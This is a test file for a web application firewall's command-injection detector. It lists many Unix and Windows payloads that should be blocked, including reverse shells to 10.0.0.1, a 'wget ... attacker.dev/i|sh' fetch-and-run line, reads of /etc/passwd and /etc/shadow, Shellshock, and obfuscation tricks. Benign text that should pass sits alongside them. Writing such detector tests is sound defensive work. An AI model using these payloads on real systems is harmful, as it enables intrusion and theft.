/**
 * OS command injection (`src/lib/waf/command.ts`): Unix and Windows payloads in query, form and
 * JSON values are blocked; prose, markdown, lists with pipes and ampersands, and developer
 * snippets pass. Also: values that once made the filter throw (a RegExp built from the value),
 * and the cheap gate in front of the detector (it must pass every attack, and skip ordinary text).
 */
// zod-openapi must extend zod before the config schema is built (as src/app.ts does first).
import "@hono/zod-openapi";
import { describe, expect, it } from "vitest";
import { edgeConfigSchema } from "../../src/lib/config/schema.ts";
import { commandGate, detectCommand, globMatch } from "../../src/lib/waf/command.ts";
import { normalizeValue } from "../../src/lib/waf/normalize.ts";
import { evaluateRequest, type WafRequest } from "../../src/lib/waf/index.ts";

const DEFAULT = edgeConfigSchema.parse({ security: {} }).security;
const BROWSER =
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15";

function req(url: string, body: string | null = null, contentType?: string): WafRequest {
  const headers = new Headers({ "user-agent": BROWSER });
  if (contentType) headers.set("content-type", contentType);
  return {
    method: body === null ? "GET" : "POST",
    url,
    headers,
    visitor: { ip: "203.0.113.7", country: "DE", asn: 3320 },
    body,
  };
}
const query = (value: string) =>
  evaluateRequest(req(`https://edge.test/search?q=${encodeURIComponent(value)}`), DEFAULT);
const form = (value: string) =>
  evaluateRequest(
    req("https://edge.test/contact", `name=x&host=${encodeURIComponent(value)}`, "application/x-www-form-urlencoded"),
    DEFAULT,
  );
const json = (value: string) =>
  evaluateRequest(req("https://edge.test/v1/notes", JSON.stringify({ text: value }), "application/json"), DEFAULT);

const ATTACKS = [
  // Backticks in documentation-looking text still count when what they run is dangerous.
  ["see the `schema` docs and `cat /etc/passwd` here"],
  // separators, absolute paths, substitutions
  ["a;/usr/bin/id|"],
  ["127.0.0.1; cat /etc/passwd"],
  ["127.0.0.1 && ls /etc"],
  ["x||whoami"],
  ["x`whoami`"],
  ["$(cat /etc/shadow)"],
  ["127.0.0.1\nid"],
  ["x\nwhoami"],
  [";id"],
  ["&& dir"],
  ["';htop'"],
  // whole-value command lines
  ["cat /etc/passwd"],
  ["nc -lvvp 4444 -e /bin/sh"],
  ["/usr/bin/python3 -m http.server"],
  ["ansible-config dump\n"],
  ["cd /;cd etc;comm passwd passwd\n"],
  ["perf --version;"],
  // obfuscation
  [";cat${IFS}/etc/passwd"],
  [";cat$IFS$9/etc/passwd"],
  ["/???/c?t /???/p??s??"],
  ["cat /etc/pa[s]swd"],
  ["/etc/[p]asswd"],
  ["c''at /etc/passwd"],
  ["c\\at /etc/passwd"],
  // escapes doubled (a string in a string), substitution inside a substitution
  ["; c\\\\a\\\\t /\\\\e\\\\t\\\\c/\\\\s\\\\h\\\\a\\\\d\\\\o\\\\w"],
  ["$(`ls`)"],
  ['"w"hoami'],
  [";c${x}url http://example.net/x.sh"],
  ["{cat,/etc/passwd}"],
  ["{,ifconfig}"],
  ["c{a,oun}t /etc/hosts"],
  ["\\ls"],
  [";$'\\x63\\x61\\x74' /etc/passwd"],
  // Windows
  ["cmd /c whoami"],
  ["& cmd.exe /c type c:\\windows\\win.ini"],
  ["powershell -enc SQBFAFgAKAA="],
  ["type c:\\boot.ini"],
  ["&& dir c:\\"],
  ["| net user hacker P4ss /add"],
  ["w^h^o^a^m^i & ipconfig /all"],
  ["for /f %i in ('whoami') do echo %i"],
  ["IF EXIST C:\\pagefile.sys (ECHO yes)"],
  ["Invoke-WebRequest http://example.net/x.ps1"],
  [";iex (iwr http://10.0.0.1/x.ps1)"],
  ["& timeout /t 7 &"],
  // `+` as a space of form encoding around separators; cmd.exe built-ins end at `+`
  ["+|+Dir+c:\\"],
  ["&&+|+dir c:/"],
  ["dir+c:\\"],
  ["||+dir|c:\\"],
  // reverse shells, launchers, Shellshock, bash-only syntax
  ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
  ["nc -e /bin/sh 10.0.0.1 4444"],
  [";python -c 'import os;os.system(\"id\")'"],
  ["() { :;}; /bin/bash -c id"],
  ["|wget -O /tmp/x http://10.0.0.1/x"],
  ["alias a=curl&a example.net"],
  ["$[2+2]"],
  ["<(cat /etc/passwd)"],
  ["system('cat /etc/passwd')"],
  // PHP's backtick operator from an injected call, a second command or arithmetic inside (eval-based probes).
  ["');print(`echo QWERTY;echo $((12+30));echo QWERTY`);//"],
  ['".print(`echo ZZTOP`.`echo $((7*6))`);#'],
  [")print(`echo MARK\nwhoami\necho MARK`);"],
  // a blind injection's delay: ping to the machine itself, 10 or more times
  ["ping -n 25 127.0.0.1"],
  // commix's backticks for `$(…)` (`--tamper=backticks`): an output marker glued to a substitution
  // after `echo`, a substitution assigned to a variable, each after a separator.
  ["1;echo QWERTY`expr 47 + 35``echo QWERTY`QWERTY"],
  ["1|echo QWERTY`expr 47 + 35``echo QWERTY`QWERTY"],
  ['1;ABC=`echo QWERTY`;ABC1=`expr length "$ABC"`;if [ 6 -eq $ABC1 ];then sleep 1;fi'],
  ['1\nABC=`echo QWERTY`\nABC1=`expr length "$ABC"`\nif [ 6 -eq $ABC1 ]\nthen sleep 1\nfi'],
  // commix's backslashes (`--tamper=backslashes`): each escaped letter is itself, `\n` included.
  ['1;\\p\\y\\t\\h\\o\\n3 -c "\\p\\r\\i\\n\\t(47+35)"'],
  ["1&&$(\\p\\y\\t\\h\\o\\n3 -c \"\\p\\r\\i\\n\\t(\\l\\e\\n('QWERTY'))\")"],
  // OWASP ZAP's command injection rule: unset variables glued to a word's end and before a path
  // (its WAF bypass), a PowerShell cmdlet as the whole injected command.
  ["1;cat$xq $xq/etc$xq/passwd;"],
  ["1&sleep$ab 5&"],
  ["1;get-help #"],
  // A program's name with an unset variable glued to it stays an evasion when the view drops it.
  ["rm$v;"],
  ["whoami$a"],
  ['1";start-sleep -s 5'],
] as const;

const BENIGN = [
  // Markdown inline code in documentation: backticks come in pairs.
  ["- and the value is an object with a `schema` of any `zod` type"],
  ["You can access the context in `app.doc` as follows:"],
  ["Launch the HTTP server (`npm run serve-tests`) and visit the page"],
  ["cat and dog; ls is my favourite"],
  ["Tom & Jerry | Cartoons"],
  ["Salt & pepper; cat food"],
  ["name | id | email"],
  ["ok; id please"],
  ["wget failed; retrying"],
  ["Use `ls -la` to list files, then `cd` into the folder."],
  ["What does `rm -rf node_modules` do?"],
  ["R&D | Sales | Marketing"],
  ["rock & roll; less is more"],
  ["price >= 10 && stock > 0"],
  ["node >= 18 && npm >= 9"],
  ["If not defined, the default is used"],
  ["For 100% in (some) cases it works"],
  ["Fish & chips; type of potato matters"],
  ["ls -la ~/projects"],
  ["npm install && npm run build"],
  ["python3 -m venv .venv && source .venv/bin/activate"],
  ["git log --oneline | head -5"],
  ["Dockerfile: RUN apt-get update && apt-get install -y curl"],
  ["PowerShell: Get-ChildItem -Path C:\\Temp"],
  ["awk -F, '{ print $2 }' data.csv"],
  ["echo $HOME"],
  ["/usr/local/bin is on PATH"],
  ["query { user { id,name,email } }"],
  ["I'd go; it's fine"],
  ["O'Brien & Sons | Dublin"],
  ["Meeting notes - time: 10am; who: team; what: planning"],
  ["```bash\nnpm install example-sdk\n```"],
  ["fn main() {\n    let words: Vec<&str> = s.split(' ').collect();\n}"],
  ["Bash tip: use ${VAR:-default} for defaults"],
  ["C++ | Java | Rust"],
  ["Great+service;+would+order+again"],
  ["type+safe builders; dir+layout"],
  ["a+b;c+d"],
  // Windows shares and escaped paths keep their backslashes; markdown inline code stays documentation.
  ["Map \\\\fileserver\\share as Z: then run `dir` in it"],
  ['The JSON has "C:\\\\Users\\\\sam\\\\notes.txt" in it, escaped'],
  // Code spans after a word or a space (not glued to an `echo` argument after a separator), escapes.
  ["echo 和`printf`的区别"],
  ["Set FOO=`bar` in your shell"],
  ["reason='`out` of a different size is numpy-specific'"],
  // A name and its value in backticks after a separator is prose or code, not a substitution.
  ["Fixed it; NODE_ENV=`production` was missing from the env"],
  ["Name: Alice; role=`admin`; team=`core`"],
  ["Options:\nmode=`fast` is the default, mode=`safe` is slower"],
  ["utm_source=x&utm_medium=`email`"],
  ["!function(){var e;e=`Hello`}();"],
  // Tag lists with words that look like cmdlets (`read-only`, `add-on`, `start-up`).
  ["music;start-up;new-york"],
  ["gadgets;add-on"],
  ["v1; read-only mode"],
  ["name;start-date"],
  ["cart;add-item sku123 2"],
  ["blog;clear-history"],
  ["Tip; echo `date` prints the date"],
  ["ok; type `echo hi` and see"],
  ["Escapes: \\n is a newline, \\t a tab, \\r\\n a Windows line end"],
  ["a regex like \\d\\s\\w+\\n matches it"],
  // Backticks in prose and in JavaScript template literals stay documentation and code.
  ["Run `echo $((1+2))` to see bash arithmetic"],
  ["ping -c 4 127.0.0.1"],
  ["console.log(`done in ${ms} ms`); notify(`echo ${user.id}`)"],
] as const;

describe("command injection", () => {
  it.each(ATTACKS)("blocks %j in a query value and a form value", (payload) => {
    expect(query(payload), `query ${payload}`).toMatchObject({ action: "block", class: "command" });
    expect(form(payload).action, `form ${payload}`).toBe("block");
  });

  it.each(BENIGN)("lets %j through (query and JSON)", (text) => {
    expect(query(text).action, `query ${text}`).toBe("allow");
    expect(json(text).action, `json ${text}`).toBe("allow");
  });

  it("reads command words in markdown code spans of a long text as documentation, and short ones as payloads", () => {
    // What a pasted README holds: a list item, a table row, spans side by side.
    const intro =
      "These are the options of the command line tool, with their types and defaults, as the README lists them for anyone who configures it. ";
    const docs = [
      "* `id` - (String) UUID(-like) string",
      "| `bash`                | `boolean`      | `false`     | Follow bash matching rules more strictly |",
      "- [Tests] up to `io.js` `v3.3`, `node` `v4.1` [`d9bad2b`](https://github.com/ljharb/function-bind/commit/d9bad2b)",
      "* `p*`: The XXth percentile value for this statistic.",
    ];
    for (const line of docs) {
      const text = `${intro.repeat(2)}\n\n${line}\n\n${intro}`;
      expect(json(text).action, line).toBe("allow");
    }
    // The same spans as a value of their own, or with a dangerous argument in a long text, still block.
    for (const payload of ["`id`", "| `id` |", "* `id` - x", "name=`bash`"])
      expect(query(payload), payload).toMatchObject({ action: "block", class: "command" });
    // In a long text only a bare, harmless word reads as documentation: arguments or a command
    // that does harm alone still count.
    for (const line of [
      "- `wget -qO- attacker.dev/i|sh` - step one",
      "- `reboot` - restart",
      "| `shutdown -h now` | stop |",
    ])
      expect(json(`${intro.repeat(2)}\n\n${line}\n\n${intro}`), line).toMatchObject({
        action: "block",
        class: "command",
      });
    expect(json(`${intro.repeat(2)}\n\n* \`cat /etc/passwd\` - the users\n\n${intro}`)).toMatchObject({
      action: "block",
      class: "command",
    });
  });

  it("never throws on request data that looks like a glob or a broken class", () => {
    for (const value of [
      ";truncate[xx",
      ";c[",
      ";/???/[",
      "|[!]",
      ";a[b-]",
      ";*(",
      ";?)",
      ";[[[[",
      ";\\",
      ";$(",
      "`",
    ]) {
      const d = query(value);
      expect(["allow", "block"], value).toContain(d.action);
      expect(d.class === undefined || d.class === "command" || d.class !== "protocol").toBe(true);
    }
    const v = {
      text: ";truncate[xx",
      lower: ";truncate[xx",
      raw: ";truncate[xx",
      hadNull: false,
      field: { kind: "query", name: "test", where: "query", key: "test", value: ";truncate[xx" },
    } as const;
    expect(() => detectCommand(v)).not.toThrow();
  });

  it("matches globs by hand: ?, *, classes, ranges, negation", () => {
    expect(globMatch("c?t", "cat")).toBe(true);
    expect(globMatch("/???/c?t".split("/")[2]!, "cat")).toBe(true);
    expect(globMatch("[c]at", "cat")).toBe(true);
    expect(globMatch("[a-d]at", "cat")).toBe(true);
    expect(globMatch("[!c]at", "cat")).toBe(false);
    expect(globMatch("w*i", "whoami")).toBe(true);
    expect(globMatch("truncate[xx", "cat")).toBe(false);
    expect(globMatch("*".repeat(60), "cat")).toBe(true);
  });

  it("Shellshock in a header and a restricted upload file name are blocked", () => {
    const r = req("https://edge.test/cgi-bin/status");
    r.headers.set("user-agent", "() { :; }; /bin/bash -c 'id'");
    expect(evaluateRequest(r, DEFAULT)).toMatchObject({ action: "block", ruleId: "command-shellshock" });
    const boundary = "----b0undary";
    const body = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="wp-config.php.bak"\r\nContent-Type: text/plain\r\n\r\nx\r\n--${boundary}--\r\n`;
    expect(
      evaluateRequest(req("https://edge.test/upload", body, `multipart/form-data; boundary=${boundary}`), DEFAULT)
        .action,
    ).toBe("block");
  });

  const inspected = (raw: string, where = "body", name = "text") => {
    const { text, hadNull } = normalizeValue(raw);
    return {
      text,
      lower: text.toLowerCase(),
      raw,
      hadNull,
      field: { kind: "body", name, where, key: name, value: raw },
    } as const;
  };

  it("the gate passes every attack (and upload file names), the detector then finds it", () => {
    for (const [payload] of ATTACKS) {
      const v = inspected(payload);
      expect(commandGate(v.text, v.lower), payload).toBe(true);
      expect(detectCommand(v), payload).not.toBeNull();
    }
    // Whole-value commands, obfuscated names and globs without any shell syntax character.
    for (const payload of [
      "whoami",
      "Tasklist",
      "SYSTEMINFO",
      "w'h'oami",
      "ti''me curl coreruleset.org",
      "bin/cscli",
      "c?t",
      "python3.10 -c print(1)",
      "cmd.exe",
      "IF EXIST x CMD",
      "busybox sh",
      "x cmd /c whoami",
    ]) {
      expect(commandGate(payload, payload.toLowerCase()), payload).toBe(true);
    }
    for (const name of ["wp-config.php.bak", ".htaccess", "mtrr", "id_rsa", "uploads/ .env"]) {
      const v = inspected(name, "body-filename", "file");
      expect(commandGate(v.text, v.lower), name).toBe(true);
      expect(detectCommand(v)?.ruleId, name).toBe("command-restricted-upload");
    }
  });

  it("the gate skips ordinary values: prose, titles, tags, ids, dates", () => {
    const prose =
      "What kind of garden is best for O'Brien's family? We planted 120 tulips, and they're \"fine\" now. ".repeat(20);
    for (const value of [
      prose,
      "Why doesn't my query return O'Brien's orders?",
      "garden",
      "how-to",
      "note-12",
      "published",
      "2026-11-01T00:00:00.000Z",
      "Flowers bloom when you're having fun.",
      "user@example.com",
      "1.2.3",
    ]) {
      expect(commandGate(value, value.toLowerCase()), value.slice(0, 40)).toBe(false);
    }
  });

  it("stays linear on long values with many separators and globs", () => {
    for (const unit of [
      "The cat sat; on the mat & ran | away. ",
      "a;b|c&d`e`$(f) ",
      "https://x.io/a/b?c=d&e=f ",
      "/e??/p* [x] {a,b} ",
    ]) {
      const small = inspected(unit.repeat(Math.ceil(2048 / unit.length)));
      const large = inspected(unit.repeat(Math.ceil(16384 / unit.length)));
      const time = (v: ReturnType<typeof inspected>) => {
        const start = performance.now();
        for (let i = 0; i < 5; i++) detectCommand(v);
        return performance.now() - start;
      };
      time(small);
      // 8x the input must not cost much more than 8x the time (generous bound: timers are coarse).
      expect(time(large), unit).toBeLessThan(Math.max(50, 40 * time(small)));
    }
  });
});
